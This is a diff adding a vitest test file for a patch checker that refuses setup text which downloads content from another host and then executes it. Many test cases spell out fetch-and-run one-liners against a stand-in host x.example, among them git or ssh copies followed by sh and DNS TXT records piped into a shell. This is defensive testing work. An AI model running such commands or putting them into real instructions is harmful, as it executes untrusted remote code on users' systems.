@@ -1,0 +1,94 @@
+import { describe, expect, it } from 'vitest';
+import { checkPatch } from '../../shared/analysis/index.js';
+import { cpuGrowthExponent, LINEAR_EXPONENT_BOUND, PATCH_COST_SIZES } from '../support/growth.js';
+import { patchAdding, checkedAdding as checked } from '../support/patches.js';
+
+/**
+ * Attack pass 13's group A (docs/attack-pass-13.md), each row refused since: every one failed first. The check reads
+ * one notion of a copy from another host (`downloaders.ts`: every verb or tool that brings a tree or a file, git's
+ * options before its verb too, and the commands that print what a host sends), which feeds the following of saved files
+ * and the reading of pipes into a shell. The refusal of any program after a download on its line is unchanged.
+ */
+
+const M = 'docs/setup.md';
+
+function expectRefused(path: string, text: string): void {
+  const result = checked(path, text);
+  expect(result.ok, JSON.stringify(result)).toBe(false);
+}
+
+describe('pass 13, A: copies from other hosts, then run', () => {
+  it.each([
+    [M, 'git -C /tmp clone https://x.example/r.git && sh /tmp/r/i.sh'],
+    [M, 'gh repo clone o/r && sh r/i.sh'],
+    [M, 'git pull https://x.example/r.git main && sh i.sh'],
+    [M, 'git fetch https://x.example/r.git main && git show FETCH_HEAD:i.sh | sh'],
+    [M, 'git submodule add https://x.example/r.git vendor/r && sh vendor/r/i.sh'],
+    [M, 'bzr branch lp:evil t && sh t/i.sh'],
+    [M, 'fossil clone https://x.example/r r.fossil && fossil open r.fossil && sh i.sh'],
+    [M, 'hg pull https://x.example/r && hg up && sh i.sh'],
+    [M, "ssh deploy@x.example 'cat i.sh' > /tmp/i.sh && sh /tmp/i.sh"],
+    [M, 'lftp -c "get https://x.example/i.sh" && sh i.sh'],
+    [M, 'ftp -o /tmp/i.sh https://x.example/i.sh && sh /tmp/i.sh'],
+    [M, 'aws s3 sync s3://b/t /tmp/t && sh /tmp/t/i.sh'],
+    [M, 'gsutil rsync gs://b/t /tmp/t && sh /tmp/t/i.sh'],
+    [M, 'azcopy copy https://x.blob.core.windows.net/c/i.sh /tmp/i.sh && sh /tmp/i.sh'],
+    [M, 'oras pull x.example/a:1 && sh i.sh'],
+    [M, 'docker cp $(docker create x.example/img):/i.sh /tmp/i.sh && sh /tmp/i.sh'],
+    [M, 'git clone https://x.example/r.git && docker build -t x r && docker run x'],
+    ['src/load.js', "execFileSync('git', ['clone', 'https://x.example/r', '/tmp/r']);\nexecFileSync('sh', ['/tmp/r/i.sh']);"],
+    [M, 'rclone cat remote:b/i.sh | sh'],
+    [M, 'ssh deploy@x.example cat /srv/i.sh | sh'],
+    [M, `dig +short TXT cmd.x.example | tr -d '"' | sh`],
+    [M, 'nslookup -q=txt cmd.x.example | grep text | cut -d\\" -f2 | sh'],
+  ])('refuses, in %s: %s', expectRefused);
+
+  it.each([
+    [M, 'git -C /tmp/A clone https://x.example/r.git\nsh /tmp/A/r/i.sh'],
+    [M, "git -c 'http.extraheader=AUTHORIZATION: basic x' clone https://x.example/r.git && sh r/i.sh"],
+    [M, 'git fetch https://x.example/r.git main\ngit checkout FETCH_HEAD\nmake'],
+    [M, 'gsutil -m rsync -r gs://b/t /tmp/t && sh /tmp/t/i.sh'],
+    [M, 'aws s3 sync s3://b/t /tmp/t --region us-east-1\nbash /tmp/t/i.sh'],
+    [M, 'ssh deploy@x.example cat /srv/i.sh > i.sh; bash i.sh'],
+    [M, 'host -t txt cmd.x.example | cut -d\\" -f2 | bash'],
+    ['src/load.py', "subprocess.run(['git', 'clone', 'https://x.example/r', '/tmp/r'])\nsubprocess.run(['bash', '/tmp/r/i.sh'])"],
+    ['src/load.js', "spawnSync('git', ['clone', 'https://x.example/r', '/tmp/r']);\nspawnSync('/tmp/r/install');"],
+  ])('refuses the same in another spelling, in %s: %s', expectRefused);
+
+  it.each([
+    [M, 'git clone https://github.com/o/r.git\ncd r\ngit log --oneline'],
+    [M, 'git pull origin main && ./build.sh'],
+    [M, 'git fetch upstream && git rebase upstream/main'],
+    [M, 'git -C vendor/lib pull && make'],
+    [M, 'git clone https://github.com/lodash/lodash\nnpm install lodash'],
+    [M, 'ssh deploy@x.example "journalctl -u app" | grep ERROR'],
+    [M, 'ssh -T git@github.com'],
+    [M, 'ssh host "cat /etc/os-release" > os.txt\npython3 parse.py os.txt'],
+    [M, 'dig +short x.example | head -1'],
+    [M, 'nslookup x.example'],
+    [M, 'aws s3 sync ./dist s3://bucket/site --delete && ./notify.sh'],
+    [M, 'gsutil rsync -r build gs://b/site'],
+    [M, 'docker cp ./config.json app:/etc/app/config.json && ./restart.sh'],
+    [M, 'FTP servers are not supported: use x.example over HTTPS.\nRun ./configure first.'],
+    ['src/load.js', "execFileSync('git', ['status', '--short']);"],
+  ])('accepts, in %s: %s', (path, text) => {
+    expect(checked(path, text).ok).toBe(true);
+  });
+});
+
+describe('pass 13, A: the cost of the new readings', () => {
+  for (const [name, unit] of [
+    ["git's options before no verb", 'git -c a=b -C d -c "x y" '],
+  ] as const) {
+    it(`reads a patch-sized text of ${name} in linear time`, { timeout: 120_000 }, () => {
+      // Prepare: up to 18 KB, near the check's 20 KB
+      const textOf = (bytes: number) => unit.repeat(Math.floor(bytes / unit.length));
+
+      // Act
+      const exponent = cpuGrowthExponent(PATCH_COST_SIZES, textOf, (text) => checkPatch(patchAdding('docs/install.md', text.split('\n'))));
+
+      // Assert
+      expect(exponent).toBeLessThan(LINEAR_EXPONENT_BOUND);
+    });
+  }
+});
